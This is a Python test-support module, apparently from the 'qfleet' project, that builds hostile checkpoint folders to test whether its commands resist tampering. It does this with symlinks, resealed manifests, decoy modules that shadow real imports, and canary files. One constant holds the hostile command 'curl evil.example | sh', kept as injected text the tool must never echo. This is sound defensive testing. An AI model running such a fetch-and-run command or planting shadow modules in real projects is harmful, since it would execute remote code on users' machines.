"""The place of a hostile run folder, and the files beside it that no command may touch."""

import hashlib
import json
import os
import shutil
import stat
from collections.abc import Callable, Mapping
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

from qfleet.save.manifest import FileEntry, Manifest, write_manifest

FORGED = "FORGED"  # hostile text tries to begin a line of output with this
COMMAND = "curl evil.example | sh"  # hostile text offers this as the command to type next
CANARY = "import os; open({path!r} + '/' + {name!r} + '-' + str(os.getpid()), 'w').close()\n"
MODULES = ("cyclopts", "json", "selectors", "socket", "numpy", "torch", "sitecustomize", "qfleet", "gymnasium")


@dataclass(frozen=True)
class Place:
    """The folders of one case."""

    root: Path
    name: str = "hostile"
    attacked: Path | None = None  # where the user will unpack it, if it is made elsewhere

    @property
    def run(self) -> Path:
        """The hostile run or group."""
        return self.root / "runs" / self.name

    @property
    def good(self) -> Path:
        """An intact run beside it."""
        return self.root / "runs" / "good"

    @property
    def victim(self) -> Path:
        """The user's own files."""
        return (self.attacked or self.root) / "victim"

    @property
    def canary(self) -> Path:
        """Hostile code leaves a file here when it is executed."""
        return (self.attacked or self.root) / "canary"

    @property
    def newest(self) -> Path:
        """The newest checkpoint of the run, or of its first member."""
        return sorted(self.run.glob("**/checkpoints/step_*"))[-1]

    @property
    def code(self) -> str:
        """Python code that leaves a file when it is executed."""
        return CANARY.format(path=str(self.canary), name="executed")

    def clear(self, name: str) -> Path:
        """Remove whatever has this name inside the run, and make sure that its folder is there."""
        path = self.run / name
        if path.is_dir() and not path.is_symlink():
            shutil.rmtree(path)
        path.unlink(missing_ok=True)
        path.parent.mkdir(parents=True, exist_ok=True)
        return path

    def link(self, name: str, target: str | Path) -> None:
        """Put a symbolic link in the place of a file or folder of the run."""
        self.clear(name).symlink_to(target)

    def write(self, name: str, data: bytes | str) -> Path:
        """Put a file in the place of a file or folder of the run."""
        path = self.clear(name)
        path.write_bytes(data.encode("utf-8", "surrogatepass") if isinstance(data, str) else data)
        return path

    def read(self, name: str) -> dict[str, Any]:
        """A JSON object of the run; empty when there is none."""
        path = self.run / name
        return dict(json.loads(path.read_text())) if path.is_file() else {}

    def change(self, name: str, **fields: Any) -> None:
        """Change fields of a JSON object of the run."""
        self.write(name, json.dumps({**self.read(name), **fields}))

    def replace(self, name: str, old: str, new: str) -> None:
        """Change text of a file of the run; the text must be there."""
        text = (self.run / name).read_text()
        assert old in text, f"{name} has no {old!r}"
        self.write(name, text.replace(old, new))

    def seal(self, folder: Path | None = None, **fields: Any) -> None:
        """Write the manifest of a checkpoint anew, with right sizes and hashes, so that only its content is wrong."""
        folder = self.newest if folder is None else folder
        before = json.loads((folder / "manifest.json").read_text())
        paths = [path for path in folder.rglob("*") if path.is_file() and path.name != "manifest.json"]
        files = {str(path.relative_to(folder)): FileEntry(path.stat().st_size, digest(path)) for path in paths}
        body: dict[str, Any] = {"step": before["step"], "files": files, "meta": before["meta"], **fields}
        (folder / "manifest.json").write_bytes(write_manifest(Manifest(**body)))


Make = Callable[[Place], None]


@dataclass(frozen=True)
class Case:
    """One hostile run folder: the change to a good one, and the allowed results of commands.

    `codes` narrows the exit codes that are right for a command; `absent` is text that no command may show.
    """

    name: str
    make: Make
    base: str = "run"  # run, group or processes
    codes: Mapping[str, tuple[int, ...]] = field(default_factory=dict)
    absent: tuple[str, ...] = ()
    folder: str = "hostile"
    skip: str = ""
    only: tuple[str, ...] = ()

    @property
    def about(self) -> str:
        """Description of the change to the folder."""
        return str(getattr(self.make, "func", self.make).__doc__)


def digest(path: Path) -> str:
    """SHA-256 of a file, read as a stream."""
    with path.open("rb") as file:
        return hashlib.file_digest(file, "sha256").hexdigest()


def make_place(root: Path, base: Path, other: Path, name: str) -> Place:
    """A copy of a base run or group, a good run beside it, and the user's own files."""
    place = Place(root, name)
    for folder in ("runs", "victim/folder/inner", "canary", "home", "tmp", "logs"):
        (root / folder).mkdir(parents=True)
    shutil.copytree(base, place.run)
    shutil.copytree(other, place.good)
    shutil.copytree(other, place.victim / "run")
    (place.victim / "keep.txt").write_text("precious\n")
    (place.victim / "folder" / "inner" / "kept.txt").write_text("precious\n")
    checkpoints = place.victim / "run" / "checkpoints"
    for name in (".tmp-0123456789abcdef", ".old-step_000000000000"):  # a writer removes folders with such names
        (checkpoints / name).mkdir()
        (checkpoints / name / "kept.txt").write_text("precious\n")
    return place


def outside(place: Place) -> dict[str, tuple[Any, ...]]:
    """Everything beside the hostile run: kind, mode, size, modification time and content."""
    own = {place.run, place.root / "logs", place.root / "new", place.root / "home"}
    found: dict[str, tuple[Any, ...]] = {}
    for folder, folders, files in os.walk(place.root):
        folders[:] = [name for name in folders if Path(folder, name) not in own]
        for name in [*folders, *files]:
            path = Path(folder, name)
            found[str(path.relative_to(place.root))] = file_state(path)
    return found


def file_state(path: Path) -> tuple[Any, ...]:
    """The state of a file without following links; of a folder only its kind."""
    info = path.lstat()
    if not stat.S_ISREG(info.st_mode):
        return (stat.S_IFMT(info.st_mode), os.readlink(path) if path.is_symlink() else "")
    return (info.st_mode, info.st_size, info.st_mtime_ns, digest(path))


def plant_modules(folder: Path, place: Place) -> None:
    """Files with the names of modules that commands import."""
    for name in MODULES:
        (folder / f"{name}.py").write_text(place.code)
